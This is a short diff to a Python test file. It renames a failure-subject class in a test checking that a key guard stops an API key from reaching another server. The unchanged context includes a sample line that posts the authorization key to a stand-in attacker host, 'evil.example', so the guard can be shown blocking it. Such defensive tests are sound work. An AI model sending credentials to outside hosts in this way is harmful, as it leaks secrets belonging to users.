@@ -18,7 +18,7 @@ from workbench.core.lanes import Endpoint
 from workbench.core.providers import PROVIDERS
 from workbench.engine.calls import Call
 from workbench.engine.child import key_guard
-from workbench.engine.child.failures import Where
+from workbench.engine.child.failures import FailureSubject
 from workbench.engine.child.key_guard import KeyHeldBackError, guarded
 from workbench.engine.child.litellm_failures import failure_of
 
@@ -181,7 +181,7 @@ def test_what_was_held_back_is_said_as_what_it_is() -> None:
         httpx.post("https://evil.example", headers={"authorization": KEY})
     # So LiteLLM tells it on.
     wrapped = Exception(f"litellm.APIConnectionError: OpenAIException - {caught.value}")
-    failure = failure_of(wrapped, Where("OpenAI", "gpt-5"), has_text=False).failure
+    failure = failure_of(wrapped, FailureSubject("OpenAI", "gpt-5"), has_text=False).failure
     assert failure.code == "bad_address"
     assert "to another server" in failure.sentence
 
